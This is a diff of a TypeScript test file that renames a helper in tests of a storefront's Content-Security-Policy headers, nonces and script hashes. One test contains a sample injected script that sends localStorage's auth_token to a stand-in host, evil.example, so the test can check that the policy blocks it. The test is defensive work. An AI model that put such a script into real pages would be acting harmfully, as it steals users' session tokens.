@@ -64,10 +64,10 @@ describe('headers (security, headers)', () => {
 
 describe("a page's policy (decision 13)", () => {
   const own = 'window.shop = 1'
-  const doorOf = (body: Parameters<typeof fakeStorefront>[0]) => createApp(shop.context, fakeStorefront(body))
+  const appOf = (body: Parameters<typeof fakeStorefront>[0]) => createApp(shop.context, fakeStorefront(body))
 
   test('has no unsafe-inline and no host but the shop; its own scripts run by their hash', async () => {
-    const policy = await policyOf(doorOf((_request, mark) => `<script nonce="${mark}">${own}</script>`))
+    const policy = await policyOf(appOf((_request, mark) => `<script nonce="${mark}">${own}</script>`))
     expect(policy).toContain(`script-src 'self' ${hashOf(own)};`)
     expect(policy).not.toMatch(/unsafe|nonce|https?:|\*/)
     for (const rule of [
@@ -101,7 +101,7 @@ describe("a page's policy (decision 13)", () => {
   test('an injected script without the nonce gets no hash', async () => {
     const injected = 'fetch("//evil.example?" + localStorage.auth_token)'
     const policy = await policyOf(
-      doorOf(
+      appOf(
         (_request, mark) =>
           `<script>${injected}</script><script nonce="guess">${injected}</script><script nonce="${mark}">${own}</script>`,
       ),
@@ -111,7 +111,7 @@ describe("a page's policy (decision 13)", () => {
   })
 
   test('the nonce stays between the storefront and the application', async () => {
-    const app = doorOf((_request, mark) => `<link nonce="${mark}"><script nonce="${mark}">${own}</script>`)
+    const app = appOf((_request, mark) => `<link nonce="${mark}"><script nonce="${mark}">${own}</script>`)
     const [first, second] = [await app.request('/'), await app.request('/')]
     const text = await first.text()
     expect(text).toContain(`<script>${own}</script>`)
